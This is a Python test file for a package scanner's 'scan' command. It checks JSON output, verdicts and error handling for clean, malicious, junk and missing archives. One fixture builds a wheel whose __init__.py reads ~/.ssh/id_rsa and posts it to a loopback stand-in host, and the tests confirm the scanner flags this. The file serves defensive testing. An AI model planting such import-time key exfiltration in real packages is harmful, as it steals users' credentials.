"""``bastion scan``: the --json line contract, the error verdict, the summary, ``--store``."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from bastion.cli import app
from tests.protect.scan.builders import LOOPBACK, PLAIN_SETUP, code, sdist, wheel
from tests.support.index import Index
from tests.support.types import CliRun, MakeUser

KEYS = {"file", "verdict", "findings", "seconds"}
FINDING_KEYS = {"rule", "severity", "path", "line", "excerpt"}


def files(tmp_path: Path) -> dict[str, Path]:
    clean = tmp_path / "demo-1.0.tar.gz"
    clean.write_bytes(sdist("demo", "1.0", {"setup.py": PLAIN_SETUP, "demo/__init__.py": ""}))
    bad = tmp_path / "demo-2.0-py3-none-any.whl"
    bad.write_bytes(
        wheel(
            "demo",
            "2.0",
            {
                "demo/__init__.py": code(f"""
        import os, requests
        requests.post("{LOOPBACK}/k", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
        """)
            },
        )
    )
    junk = tmp_path / "junk-1.0.tar.gz"
    junk.write_bytes(b"not an archive")
    return {"clean": clean, "bad": bad, "junk": junk, "missing": tmp_path / "missing-1.0.zip"}


def test_json_lines_contract(tmp_path: Path) -> None:
    paths = files(tmp_path)
    order = [paths["clean"], paths["bad"], paths["junk"], paths["missing"]]
    result = CliRunner().invoke(app, ["scan", "--json", *map(str, order)])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["file"] for line in lines] == [str(p) for p in order]
    assert [line["verdict"] for line in lines] == ["clean", "malicious", "error", "error"]
    for line in lines[:2]:
        assert set(line) == KEYS
        assert isinstance(line["seconds"], float)
        for finding in line["findings"]:
            assert set(finding) == FINDING_KEYS
    assert "import-exfiltration" in {f["rule"] for f in lines[1]["findings"]}
    for line in lines[2:]:
        assert set(line) == KEYS | {"reason"} and line["reason"] and line["findings"] == []


def test_readable_summary(tmp_path: Path) -> None:
    paths = files(tmp_path)
    result = CliRunner().invoke(app, ["scan", str(paths["bad"]), str(paths["junk"])])
    assert result.exit_code == 0, result.output
    assert "malicious" in result.stdout and "import-exfiltration" in result.stdout
    assert "error" in result.stdout and "not a zip or tar archive" in result.stdout


def test_nothing_to_scan_is_a_usage_error() -> None:
    result = CliRunner().invoke(app, ["scan"])
    assert result.exit_code == 2


async def test_store_rescans_what_the_index_holds(
    index: Index, make_user: MakeUser, cli: CliRun
) -> None:
    await make_user("alice")
    published = await index.publish("demo", "1.0")
    result = await cli("scan", "--store", "--json")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert sorted(line["file"] for line in lines) == sorted(p.name for p in published)
    assert all(line["verdict"] == "clean" and set(line) == KEYS for line in lines)
